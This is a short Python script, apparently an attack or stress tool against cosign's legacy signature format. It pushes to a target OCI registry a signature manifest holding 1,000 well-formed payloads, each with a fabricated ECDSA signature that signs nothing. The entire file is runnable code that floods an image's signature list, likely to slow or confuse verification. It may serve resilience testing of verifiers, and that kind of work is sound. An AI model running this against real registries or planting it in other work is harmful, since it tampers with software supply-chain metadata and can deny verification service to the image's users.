#!/usr/bin/env python3
"""Puts 1,000 well-formed signatures by nobody on an image, as cosign's older format keeps them.

hostile.py REGISTRY_URL REPOSITORY DIGEST
"""

import base64
import hashlib
import json
import sys
import urllib.request

MANY = 1000
SIMPLE_SIGNING = "application/vnd.dev.cosign.simplesigning.v1+json"


def main(registry: str, repository: str, image: str) -> None:
    base = f"{registry}/v2/{repository}"

    def ask(method: str, url: str, body: bytes, media_type: str) -> urllib.request.addinfourl:
        request = urllib.request.Request(url, body, {"content-type": media_type}, method=method)
        return urllib.request.urlopen(request)

    def blob(media_type: str, content: bytes) -> dict:
        digest = "sha256:" + hashlib.sha256(content).hexdigest()
        upload = ask("POST", f"{base}/blobs/uploads/", b"", "application/octet-stream").headers["location"]
        ask("PUT", f"{upload}&digest={digest}", content, "application/octet-stream")
        return {"mediaType": media_type, "digest": digest, "size": len(content)}

    # Half of them with the same payload, as signatures by several signers have it, the other half each with its own.
    critical = {
        "identity": {"docker-reference": repository},
        "image": {"docker-manifest-digest": image},
        "type": "cosign container image signature",
    }
    layers = []
    for number in range(MANY):
        if number == 0 or number > MANY // 2:
            payload = blob(SIMPLE_SIGNING, json.dumps({"critical": critical, "optional": {"number": number}}).encode())
        # In ASN.1: two numbers, which are no signature of anything.
        parts = b"\x02\x20" + b"\x11" * 32 + b"\x02\x20" + b"\x22" * 30 + number.to_bytes(2, "big")
        signature = base64.b64encode(b"\x30\x44" + parts).decode()
        layers.append({**payload, "annotations": {"dev.cosignproject.cosign/signature": signature}})
    media_type = "application/vnd.oci.image.manifest.v1+json"
    config = blob("application/vnd.oci.image.config.v1+json", b"{}")
    manifest = {"schemaVersion": 2, "mediaType": media_type, "config": config, "layers": layers}
    tag = image.replace(":", "-") + ".sig"
    ask("PUT", f"{base}/manifests/{tag}", json.dumps(manifest).encode(), media_type)


if __name__ == "__main__":
    main(*sys.argv[1:])
